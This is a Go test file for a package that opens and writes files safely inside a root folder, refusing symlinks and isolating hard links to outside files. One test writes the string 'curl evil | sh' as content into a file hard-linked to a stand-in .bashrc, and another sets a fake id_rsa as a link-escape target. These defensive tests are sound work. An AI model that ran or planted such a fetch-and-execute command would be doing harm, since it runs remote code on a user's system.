package safefile

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"testing"
)

// TestOpenIn_FollowsNoLink: a link anywhere on the path is refused, to a
// file outside root or inside it, before anything is created or truncated
// through it; plain folders and files open, and O_CREATE makes the
// missing folders.
func TestOpenIn_FollowsNoLink(t *testing.T) {
	dir, outside := t.TempDir(), t.TempDir()
	secret := filepath.Join(outside, "id_rsa")
	mustDo(t, os.WriteFile(secret, []byte("KEY"), 0o600))
	mustDo(t, os.MkdirAll(filepath.Join(dir, "sub"), 0o755))
	mustDo(t, os.WriteFile(filepath.Join(dir, "sub", "a.txt"), []byte("A"), 0o644))
	links := map[string]string{"in": "sub", "out": outside, "sub/la": "a.txt", "sub/lo": secret,
		"sub/gone": filepath.Join(outside, "made"), "sub/gone-in": "made-in"}
	for name, target := range links {
		link := filepath.Join(dir, filepath.FromSlash(name))
		if os.Symlink(target, link) != nil {
			t.Skip("no symlinks here")
		}
		if _, err := os.Lstat(link); err != nil {
			t.Skip("os.Symlink made no link (Wine's is a stub)")
		}
	}
	const create = os.O_WRONLY | os.O_CREATE | os.O_TRUNC
	tests := []struct {
		name string
		flag int
		err  error // nil: opens; errRefused: any error
	}{
		{"sub/a.txt", os.O_RDONLY, nil},
		{"new/deep/x.txt", create, nil},
		{"in/a.txt", os.O_RDONLY, ErrLinked},
		{"in/a.txt", create, ErrLinked},
		{"in/new/x.txt", create, ErrLinked},
		{"out/id_rsa", os.O_RDONLY, errRefused}, // os.Root refuses a link out
		{"out/x", create, errRefused},
		{"sub/la", os.O_RDONLY, ErrLinked},
		{"sub/la", create, ErrLinked},
		{"sub/lo", os.O_RDONLY, errRefused}, // os.Root refuses a link out
		{"sub/lo", create, errRefused},
		{"sub/gone", create, errRefused},
		{"sub/gone-in", create, errRefused},
		{"sub", os.O_RDONLY, ErrNotRegular},
	}
	for _, tt := range tests {
		f, err := OpenIn(dir, tt.name, tt.flag)
		if f != nil {
			f.Close()
		}
		if (tt.err == nil) != (err == nil) || tt.err != nil && tt.err != errRefused && !errors.Is(err, tt.err) {
			t.Errorf("OpenIn(%s, %#x) = %v, want error %v", tt.name, tt.flag, err, tt.err)
		}
	}
	for p, want := range map[string]string{secret: "KEY", filepath.Join(dir, "sub", "a.txt"): "A"} {
		if got, _ := os.ReadFile(p); string(got) != want {
			t.Errorf("%s holds %q, want %q", p, got, want)
		}
	}
	for _, p := range []string{filepath.Join(outside, "made"), filepath.Join(outside, "x"), filepath.Join(dir, "made-in"), filepath.Join(dir, "sub", "new")} {
		if _, err := os.Lstat(p); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s was made through a link: %v", p, err)
		}
	}
}

// TestWriteIn_ReplacesOrCreates: an existing file gets the new bytes
// (none of the old left), a missing one is made with its folders, and a
// link on the path is refused.
func TestWriteIn_ReplacesOrCreates(t *testing.T) {
	dir := t.TempDir()
	mustDo(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("a longer old text"), 0o644))
	tests := []struct {
		name string
		err  error
	}{
		{"a.txt", nil},
		{"new/deep/b.txt", nil},
		{"link", ErrLinked},
	}
	link := filepath.Join(dir, "link")
	if os.Symlink("a.txt", link) != nil {
		tests = tests[:2]
	} else if _, err := os.Lstat(link); err != nil { // Wine's os.Symlink is a stub
		tests = tests[:2]
	}
	for _, tt := range tests {
		err := WriteIn(dir, tt.name, []byte("new"))
		got, _ := os.ReadFile(filepath.Join(dir, filepath.FromSlash(tt.name)))
		if tt.err == nil && (err != nil || string(got) != "new") || tt.err != nil && !errors.Is(err, tt.err) {
			t.Errorf("WriteIn(%s) = %v, file %q; want error %v", tt.name, err, got, tt.err)
		}
	}
}

// TestWriteIn_HardLinkKeepsItsOtherName: a file of top hard-linked to one
// outside it (ln ~/.bashrc notes) gets the new bytes under its name only;
// the outside file keeps its contents, and the name its mode. A file with
// one name is still written in place (the same file after).
func TestWriteIn_HardLinkKeepsItsOtherName(t *testing.T) {
	dir, outside := t.TempDir(), t.TempDir()
	bashrc, notes, plain := filepath.Join(outside, ".bashrc"), filepath.Join(dir, "sub", "notes"), filepath.Join(dir, "plain")
	mustDo(t, os.MkdirAll(filepath.Dir(notes), 0o755))
	mustDo(t, os.WriteFile(bashrc, []byte("export PATH=/usr/bin"), 0o640))
	mustDo(t, os.WriteFile(plain, []byte("old"), 0o644))
	if err := os.Link(bashrc, notes); err != nil {
		t.Skipf("no hard links here: %v", err)
	}
	before, _ := os.Stat(plain)
	for _, name := range []string{"sub/notes", "plain"} {
		if err := WriteIn(dir, name, []byte("curl evil | sh")); err != nil {
			t.Fatalf("WriteIn(%s): %v", name, err)
		}
	}
	for p, want := range map[string]string{bashrc: "export PATH=/usr/bin", notes: "curl evil | sh", plain: "curl evil | sh"} {
		if got, _ := os.ReadFile(p); string(got) != want {
			t.Errorf("%s holds %q, want %q", p, got, want)
		}
	}
	st, err := os.Stat(notes)
	if err != nil || runtime.GOOS != "windows" && st.Mode().Perm() != 0o640 {
		t.Errorf("notes after the write: %v, %v; want mode 0640", st, err)
	}
	if after, _ := os.Stat(plain); !os.SameFile(before, after) {
		t.Error("a file with one name was replaced, not written in place")
	}
	if ents, _ := os.ReadDir(filepath.Dir(notes)); len(ents) != 1 {
		t.Errorf("the folder holds %d entries after the write, want notes alone", len(ents))
	}
}

var errRefused = errors.New("refused")

func mustDo(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
